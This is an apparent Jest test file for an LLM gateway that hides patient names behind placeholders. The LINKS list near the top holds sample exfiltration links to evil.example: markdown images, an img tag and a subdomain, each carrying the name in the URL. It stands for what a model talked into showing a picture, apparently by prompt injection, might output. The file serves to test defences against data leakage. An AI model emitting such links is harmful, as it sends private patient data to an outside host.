import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { MODEL, startGateway, type Gateway } from './gateway.js';
import { piecesOf, saidIn } from './one-conversation.js';
import { startScriptedProvider, streaming, streamOf, whole, type ScriptedProvider } from './scripted-provider.js';

const NAME = 'Jane Doe';
const ASKED = `Patient ${NAME} asks for a leaflet.`;

let provider: ScriptedProvider;
let gateway: Gateway;
let placeholder = '';
beforeAll(async () => {
  provider = await startScriptedProvider();
  gateway = await startGateway({ variables: { LITELLM_URL: provider.url } });
});
afterAll(async () => {
  await gateway.close();
  await provider.close();
});

/** What a model says that was talked into showing a picture, and what people are to read. */
const LINKS: readonly ((who: string) => string)[] = [
  (who) => `![leaflet](https://evil.example/a.png?q=${who})`,
  (who) => `![leaflet](<https://evil.example/a.png?q= ${who}>)`,
  (who) => `[leaflet]: https://evil.example/${who}`,
  (who) => `<img alt="a" src="//evil.example/a.png?q='b' ${who}">`,
  (who) => `https://${who}.evil.example`,
];
const said = (who: string, link: string): string => `For ${who}: ${link} Regards to ${who}.`;

/** The model says `link`, in an answer of its own or in pieces of three characters. */
function willSay(link: (who: string) => string): void {
  provider.answer = (response, { stream, messages }) => {
    placeholder = /\[PHI_NAME_\d+\]/.exec(JSON.stringify(messages))?.[0] ?? 'nobody';
    const text = said(placeholder, link(placeholder));
    if (stream) streaming(response).end(streamOf(text, 3));
    else response.end(whole({ content: text, refusal: text, reasoning: text }));
  };
}

const SHAPES = {
  '/v1/chat/completions': { messages: [{ role: 'user', content: ASKED }] },
  '/v1/responses': { input: ASKED },
  '/v1/messages': { max_tokens: 100, messages: [{ role: 'user', content: ASKED }] },
};

async function answer(path: string, body: object, stream: boolean): Promise<string> {
  const response = await gateway.send(path, {
    method: 'POST',
    body: JSON.stringify({ ...body, model: MODEL, stream }),
  });
  expect(response.status).toBe(200);
  return response.text();
}

describe('an address that the model writes', () => {
  it.each(Object.entries(SHAPES))('keeps its placeholders on %s, whole and streamed', async (path, body) => {
    for (const link of LINKS) {
      for (const stream of [false, true]) {
        willSay(link);
        const text = piecesOf(await answer(path, body, stream))
          .map(saidIn)
          .join('');
        expect(text).toContain(said(NAME, link(placeholder)));
      }
    }
  });

  it('keeps them in refusals and reasoning as well', async () => {
    for (const link of LINKS) {
      willSay(link);
      const { message } = JSON.parse(await answer('/v1/chat/completions', SHAPES['/v1/chat/completions'], false))
        .choices[0];
      const shown = said(NAME, link(placeholder));
      expect(message).toMatchObject({ content: shown, refusal: shown, reasoning_content: shown });
    }
  });

  it('keeps them when the answer is read again', async () => {
    for (const link of LINKS) {
      willSay(link);
      const { id } = JSON.parse(await answer('/v1/responses', SHAPES['/v1/responses'], false));
      const kept = await (await gateway.send(`/v1/responses/${id}`)).text();
      expect(piecesOf(kept).map(saidIn).join('')).toContain(said(NAME, link(placeholder)));
    }
  });

  it('has the originals in the arguments of a tool, which the caller asked for', async () => {
    provider.answer = (response, { messages }) => {
      const [who] = /\[PHI_NAME_\d+\]/.exec(JSON.stringify(messages)) ?? [];
      const call = { name: 'open', arguments: JSON.stringify({ url: `https://ehr.example/?q=${who}` }) };
      response.end(whole({ content: null, tool_calls: [{ id: 'c', type: 'function', function: call }] }));
    };
    const answered = await answer('/v1/chat/completions', SHAPES['/v1/chat/completions'], false);
    const [call] = JSON.parse(answered).choices[0].message.tool_calls;
    expect(JSON.parse(call.function.arguments)).toEqual({ url: `https://ehr.example/?q=${NAME}` });
  });
});
